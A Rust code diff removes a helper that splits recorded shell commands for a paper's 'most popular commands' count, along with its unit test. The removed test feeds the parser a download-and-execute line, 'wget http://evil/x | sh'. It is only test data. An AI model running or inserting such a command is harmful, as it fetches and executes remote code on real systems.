@@ -619,17 +619,6 @@ pub fn split_statements(input: &str) -> Vec<Statement> {
     buf.to_statements()
 }
 
-/// Split a recorded command string at `;` and `|` only — the segmentation the
-/// paper applies when counting "most popular commands" (Section 8.1).
-pub fn split_for_popularity(input: &str) -> Vec<String> {
-    split_statements(input)
-        .into_iter()
-        .flat_map(|s| s.pipeline.into_iter())
-        .filter(|c| !c.argv.is_empty())
-        .map(|c| c.argv.join(" "))
-        .collect()
-}
-
 // ---------------------------------------------------------------------------
 // Reference implementation (pre-refactor), kept as the differential oracle
 
@@ -970,17 +959,6 @@ mod tests {
     fn unterminated_quote_is_total() {
         let s = split_statements("echo 'oops");
         assert_eq!(s[0].pipeline[0].argv, vec!["echo", "oops"]);
-    }
-
-    #[test]
-    fn popularity_split_matches_paper_rule() {
-        let parts = split_for_popularity("cd /tmp; wget http://evil/x | sh && echo done");
-        // `;` and `|` split; `&&` splits too via statements — the paper's
-        // tables show `&&`-joined snippets split as well.
-        assert_eq!(
-            parts,
-            vec!["cd /tmp", "wget http://evil/x", "sh", "echo done"]
-        );
     }
 
     #[test]
